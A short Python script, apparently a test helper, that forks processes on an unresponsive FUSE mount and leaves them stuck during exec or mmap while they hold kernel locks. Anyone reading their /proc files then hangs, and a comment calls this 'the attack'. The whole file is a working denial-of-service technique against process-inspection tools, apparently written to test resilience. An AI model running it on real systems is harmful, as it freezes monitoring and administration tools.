"""Processes that hold whoever reads their files in /proc: `holding_job.py FILE COUNT HOW` on a mount of `silentfuse`.

`exec`: each calls exec(2) while it has the file open, of which the closing is not answered (fs/exec.c: the process's
exec_update_lock is held from the point of no return on, and files are closed meanwhile).
`mmap`: each maps something else over pages of the file that are dirty, of which the writing is not answered (the
mmap_lock is held for that).
"""

from __future__ import annotations

import ctypes
import os
import sys
import time

_BYTES = 1 << 20
_READ_WRITE, _SHARED, _PRIVATE, _FIXED_ANONYMOUS = 3, 1, 2, 0x30


def by_exec(path: str) -> None:
    """Become another program, which never begins."""
    fd = os.open(path, os.O_WRONLY | os.O_CLOEXEC)
    os.write(fd, b"a")
    os.execv("/usr/bin/python3", ["python3", "-c", "import time; time.sleep(1000)"])  # noqa: S606 - that is the attack


def by_mmap(path: str) -> None:
    """Map over what is dirty."""
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    at = libc.mmap(None, _BYTES, _READ_WRITE, _SHARED, os.open(path, os.O_RDWR), 0)
    ctypes.memset(at, 1, 1)
    libc.mmap(at, _BYTES, _READ_WRITE, _PRIVATE | _FIXED_ANONYMOUS, -1, 0)


def main(path: str, count: int, how: str) -> None:
    """Start them one after the other, and stay."""
    for _ in range(count):
        if os.fork() == 0:
            (by_exec if how == "exec" else by_mmap)(path)
        time.sleep(0.3)
    time.sleep(1000)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), sys.argv[3])
